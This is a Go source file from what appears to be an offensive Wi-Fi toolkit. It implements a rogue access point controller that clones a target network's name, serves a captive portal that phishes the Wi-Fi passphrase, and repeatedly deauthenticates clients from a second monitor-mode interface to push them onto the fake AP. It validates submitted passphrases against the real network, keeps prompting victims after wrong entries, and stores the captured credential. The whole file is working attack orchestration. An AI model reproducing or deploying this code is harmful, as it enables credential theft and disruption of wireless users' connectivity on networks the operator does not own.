// Package rogueap runs the dual-interface rogue access point attack: a fake
// AP plus captive portal on one interface, deauth pressure on the other.
package rogueap

import (
	"context"
	"fmt"
	"log"
	"sync"
	"time"

	"go.opentelemetry.io/otel"
	"go.opentelemetry.io/otel/attribute"

	"github.com/lcr-sec/dualstrike/internal/core/domain"
	"github.com/lcr-sec/dualstrike/internal/core/ports"
	"github.com/lcr-sec/dualstrike/internal/core/services/cleanup"
	"github.com/lcr-sec/dualstrike/internal/core/services/deauth"
	"github.com/lcr-sec/dualstrike/internal/core/timer"
	"github.com/lcr-sec/dualstrike/internal/telemetry"
)

// State is the controller's position in the rogue-AP lifecycle.
type State string

const (
	StateIdle               State = "idle"
	StateAPConfigured       State = "ap_configured"
	StateDeauthConfigured   State = "deauth_configured"
	StateAPRunning          State = "ap_running"
	StateServicesRunning    State = "services_running"
	StateDeauthReady        State = "deauth_ready"
	StateMonitoring         State = "monitoring"
	StateCredentialCaptured State = "credential_captured"
	StateStopped            State = "stopped"
	StateCleaningUp         State = "cleaning_up"
)

// TargetAware is implemented by managed services that need the attack
// target before starting. The controller configures every service that
// implements it once the AP interface is known.
type TargetAware interface {
	SetTarget(iface, essid string, channel int)
}

// CredentialSource is polled for passphrases submitted to the captive
// portal. The portal server implements it.
type CredentialSource interface {
	// NextCredential returns the oldest unconsumed submission, if any.
	NextCredential() (domain.CapturedCredential, bool)
}

// CredentialValidator checks a submitted passphrase against the target
// network. A nil validator accepts the first submission.
type CredentialValidator interface {
	Validate(essid, bssid, passphrase string) (bool, error)
}

// Config tunes the rogue-AP loop.
type Config struct {
	AttackTimeout  time.Duration
	DeauthInterval time.Duration
	StepInterval   time.Duration
}

func (c *Config) applyDefaults() {
	if c.DeauthInterval <= 0 {
		c.DeauthInterval = 15 * time.Second
	}
	if c.StepInterval <= 0 {
		c.StepInterval = time.Second
	}
}

// Controller drives one rogue-AP attempt. It is the exclusive owner of the
// AP daemon, the DHCP/DNS responder and the portal server: no other
// component starts or stops them.
type Controller struct {
	cfg          Config
	configurator ports.InterfaceConfigurator
	scheduler    *deauth.Scheduler
	apDaemon     ports.ManagedService
	dhcp         ports.ManagedService
	portal       ports.ManagedService
	creds        CredentialSource
	validator    CredentialValidator

	mu          sync.Mutex
	state       State
	session     *domain.AttackSession
	deauthReady bool
	captured    *domain.CapturedCredential
	logger      func(message, level string)
}

func NewController(
	cfg Config,
	configurator ports.InterfaceConfigurator,
	scheduler *deauth.Scheduler,
	apDaemon, dhcp, portal ports.ManagedService,
	creds CredentialSource,
	validator CredentialValidator,
) *Controller {
	cfg.applyDefaults()
	return &Controller{
		cfg:          cfg,
		configurator: configurator,
		scheduler:    scheduler,
		apDaemon:     apDaemon,
		dhcp:         dhcp,
		portal:       portal,
		creds:        creds,
		validator:    validator,
		state:        StateIdle,
	}
}

// SetLogger configures an optional logging callback.
func (c *Controller) SetLogger(logger func(message, level string)) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.logger = logger
}

func (c *Controller) log(message, level string) {
	c.mu.Lock()
	logger := c.logger
	c.mu.Unlock()

	if logger != nil {
		logger(message, level)
		return
	}
	log.Printf("[ROGUE-AP] %s", message)
}

// State returns the controller's current lifecycle state.
func (c *Controller) State() State {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.state
}

func (c *Controller) transition(s State) {
	c.mu.Lock()
	c.state = s
	c.mu.Unlock()
}

// Run executes the rogue-AP attempt against the session's target. The
// capabilities slice is the probe snapshot the assignment was made from;
// the AP interface must provably support AP mode before the daemon starts.
// Cleanup stops every managed process exactly once on all exit paths and
// never propagates stop errors.
func (c *Controller) Run(ctx context.Context, session *domain.AttackSession, capabilities []domain.InterfaceCapability) error {
	tracer := otel.Tracer("dualstrike/rogueap")
	ctx, span := tracer.Start(ctx, "rogueap.Run")
	span.SetAttributes(
		attribute.String("target.bssid", session.TargetBSSID),
		attribute.String("target.essid", session.TargetESSID),
		attribute.Bool("assignment.dual", session.Assignment.IsDual()),
	)
	defer span.End()

	c.mu.Lock()
	c.session = session
	c.deauthReady = false
	c.captured = nil
	c.mu.Unlock()

	session.Start()
	telemetry.ActiveAttacks.Inc()
	defer telemetry.ActiveAttacks.Dec()

	cm := cleanup.NewManager()
	cm.SetLogger(c.log)
	defer func() {
		c.transition(StateCleaningUp)
		cm.StopAll(context.Background())
		c.transition(StateIdle)
	}()

	apIface := session.Assignment.Primary
	apCap, found := findCapability(capabilities, apIface)
	if !found {
		err := fmt.Errorf("%w: %s", domain.ErrInterfaceNotFound, apIface)
		session.Fail(err.Error())
		return err
	}
	if !apCap.SupportsAPMode {
		err := fmt.Errorf("%w: %s does not support AP mode", domain.ErrCapabilityMissing, apIface)
		session.Fail(err.Error())
		return err
	}

	// AP interface: down, force managed, up. hostapd drives the mode from
	// there.
	if err := c.configureAPInterface(ctx, apIface); err != nil {
		err = fmt.Errorf("%w: %s: %v", domain.ErrConfigurationFailed, apIface, err)
		session.Fail(err.Error())
		return err
	}
	cm.RegisterFunc("AP interface "+apIface, func(stopCtx context.Context) error {
		return c.restoreManaged(stopCtx, apIface)
	})
	c.transition(StateAPConfigured)

	dualDeauth := c.configureDeauthInterface(ctx, session, cm)
	c.transition(StateDeauthConfigured)

	for _, svc := range []ports.ManagedService{c.apDaemon, c.dhcp, c.portal} {
		if aware, ok := svc.(TargetAware); ok {
			aware.SetTarget(apIface, session.TargetESSID, session.Channel)
		}
	}

	if err := c.apDaemon.Start(); err != nil {
		err = fmt.Errorf("starting AP daemon: %w", err)
		session.Fail(err.Error())
		return err
	}
	cm.RegisterFunc("AP daemon", func(context.Context) error { return c.apDaemon.Stop() })
	c.transition(StateAPRunning)

	for _, svc := range []ports.ManagedService{c.dhcp, c.portal} {
		svc := svc
		if err := svc.Start(); err != nil {
			err = fmt.Errorf("starting %s: %w", svc.Name(), err)
			session.Fail(err.Error())
			return err
		}
		cm.RegisterFunc(svc.Name(), func(context.Context) error { return svc.Stop() })
	}
	c.transition(StateServicesRunning)

	if dualDeauth {
		c.verifyDeauthReadiness(ctx, session)
	}
	if c.isDeauthReady() {
		c.transition(StateDeauthReady)
	}

	c.log(fmt.Sprintf("Rogue AP %q up on %s, monitoring for portal submissions (timeout: %s)",
		session.TargetESSID, apIface, timer.New(c.cfg.AttackTimeout)), "info")
	c.transition(StateMonitoring)

	outcome := c.monitorLoop(ctx, session)
	session.Finish(outcome)

	switch outcome {
	case domain.OutcomeCredentialCaptured:
		telemetry.CredentialsCaptured.Inc()
		c.transition(StateCredentialCaptured)
	case domain.OutcomeStopped, domain.OutcomeExhausted:
		c.transition(StateStopped)
	}
	return nil
}

func (c *Controller) configureAPInterface(ctx context.Context, iface string) error {
	if err := c.configurator.Down(ctx, iface); err != nil {
		return err
	}
	if err := c.configurator.SetMode(ctx, iface, domain.ModeManaged); err != nil {
		return err
	}
	return c.configurator.Up(ctx, iface)
}

func (c *Controller) restoreManaged(ctx context.Context, iface string) error {
	if err := c.configurator.Down(ctx, iface); err != nil {
		return err
	}
	if err := c.configurator.SetMode(ctx, iface, domain.ModeManaged); err != nil {
		return err
	}
	return c.configurator.Up(ctx, iface)
}

// configureDeauthInterface puts the secondary interface into monitor mode on
// the target channel. Failure is not fatal: the attempt falls back to
// single-interface operation with deauth disabled while the AP daemon owns
// the remaining interface, and the operator is told why.
func (c *Controller) configureDeauthInterface(ctx context.Context, session *domain.AttackSession, cm *cleanup.Manager) bool {
	if !session.Assignment.IsDual() {
		c.log("Single-interface assignment: deauth requires mode switching, "+
			"skipping deauth while the AP daemon owns "+session.Assignment.Primary, "warning")
		return false
	}

	iface := session.Assignment.Secondary
	session.SetDeauthInterface(iface)

	steps := []struct {
		name string
		run  func() error
	}{
		{"down", func() error { return c.configurator.Down(ctx, iface) }},
		{"monitor mode", func() error { return c.configurator.SetMode(ctx, iface, domain.ModeMonitor) }},
		{"up", func() error { return c.configurator.Up(ctx, iface) }},
		{"channel", func() error { return c.configurator.SetChannel(ctx, iface, session.Channel) }},
	}
	for _, step := range steps {
		if err := step.run(); err != nil {
			c.log(fmt.Sprintf("Falling back to single-interface operation: "+
				"configuring %s (%s) failed: %v", iface, step.name, err), "warning")
			session.SetDeauthInterface("")
			return false
		}
	}

	cm.RegisterFunc("deauth interface "+iface, func(stopCtx context.Context) error {
		return c.restoreManaged(stopCtx, iface)
	})
	return true
}

// verifyDeauthReadiness gates periodic deauth on the interface provably
// being in monitor mode on the target channel. A mismatch disables deauth
// for the attempt rather than failing it.
func (c *Controller) verifyDeauthReadiness(ctx context.Context, session *domain.AttackSession) {
	iface := session.Assignment.Secondary

	mode, err := c.configurator.Mode(ctx, iface)
	if err != nil || mode != domain.ModeMonitor {
		c.log(fmt.Sprintf("Deauth disabled: %s reports mode %q, expected monitor (%v)",
			iface, mode, domain.ErrInterfaceStateMismatch), "warning")
		return
	}
	channel, err := c.configurator.Channel(ctx, iface)
	if err != nil || channel != session.Channel {
		c.log(fmt.Sprintf("Deauth disabled: %s reports channel %d, expected %d (%v)",
			iface, channel, session.Channel, domain.ErrInterfaceStateMismatch), "warning")
		return
	}

	c.mu.Lock()
	c.deauthReady = true
	c.mu.Unlock()
}

func (c *Controller) isDeauthReady() bool {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.deauthReady
}

// monitorLoop polls portal submissions on a fixed step, applying deauth
// pressure on its own interval when the deauth interface is ready.
func (c *Controller) monitorLoop(ctx context.Context, session *domain.AttackSession) domain.SessionOutcome {
	attackTimer := timer.New(c.cfg.AttackTimeout)
	deauthTimer := timer.New(c.cfg.DeauthInterval)

	step := time.NewTicker(c.cfg.StepInterval)
	defer step.Stop()

	deauthAssignment := deauthOnlyAssignment(session.Assignment)

	for {
		select {
		case <-ctx.Done():
			c.log("Attack interrupted, tearing down rogue AP", "warning")
			return domain.OutcomeStopped
		case <-step.C:
		}

		if cred, ok := c.creds.NextCredential(); ok {
			if c.acceptCredential(session, cred) {
				return domain.OutcomeCredentialCaptured
			}
		}

		if !c.apDaemon.IsRunning() {
			c.log("AP daemon died, ending attempt", "error")
			return domain.OutcomeStopped
		}

		if c.isDeauthReady() && deauthTimer.Ended() {
			deauthTimer.Restart()
			clients := session.ClientSnapshot()
			c.scheduler.DeauthAll(ctx, deauthAssignment, session.TargetBSSID, clients)
			session.AddDeauthBursts(len(clients) + 1)
		}

		if attackTimer.Ended() {
			c.log(fmt.Sprintf("No credential after %s, ending attempt", c.cfg.AttackTimeout), "warning")
			return domain.OutcomeExhausted
		}
	}
}

// acceptCredential validates a portal submission. Invalid passphrases are
// logged and discarded; the portal keeps prompting the victim.
func (c *Controller) acceptCredential(session *domain.AttackSession, cred domain.CapturedCredential) bool {
	if c.validator != nil {
		valid, err := c.validator.Validate(session.TargetESSID, session.TargetBSSID, cred.Passphrase)
		if err != nil {
			c.log("Credential validation failed: "+err.Error(), "warning")
		}
		if err != nil || !valid {
			c.log(fmt.Sprintf("Rejected wrong passphrase from %s", cred.ClientIP), "warning")
			if rejecter, ok := c.creds.(interface{ Reject() }); ok {
				rejecter.Reject()
			}
			return false
		}
		cred.Validated = true
	}

	cred.BSSID = session.TargetBSSID
	cred.ESSID = session.TargetESSID
	c.mu.Lock()
	c.captured = &cred
	c.mu.Unlock()

	c.log(fmt.Sprintf("Captured credential for %q from %s", session.TargetESSID, cred.ClientIP), "success")
	return true
}

// CapturedCredential returns the validated credential from the last run,
// if one was captured.
func (c *Controller) CapturedCredential() (domain.CapturedCredential, bool) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.captured == nil {
		return domain.CapturedCredential{}, false
	}
	return *c.captured, true
}

// deauthOnlyAssignment narrows a dual assignment to its deauth interface so
// the scheduler never transmits from the interface the AP daemon owns.
func deauthOnlyAssignment(a domain.RoleAssignment) domain.RoleAssignment {
	if !a.IsDual() {
		return a
	}
	return domain.RoleAssignment{
		Kind:        a.Kind,
		Primary:     a.Secondary,
		PrimaryRole: a.SecondaryRole,
	}
}

func findCapability(capabilities []domain.InterfaceCapability, name string) (domain.InterfaceCapability, bool) {
	for _, cap := range capabilities {
		if cap.Name == name {
			return cap, true
		}
	}
	return domain.InterfaceCapability{}, false
}
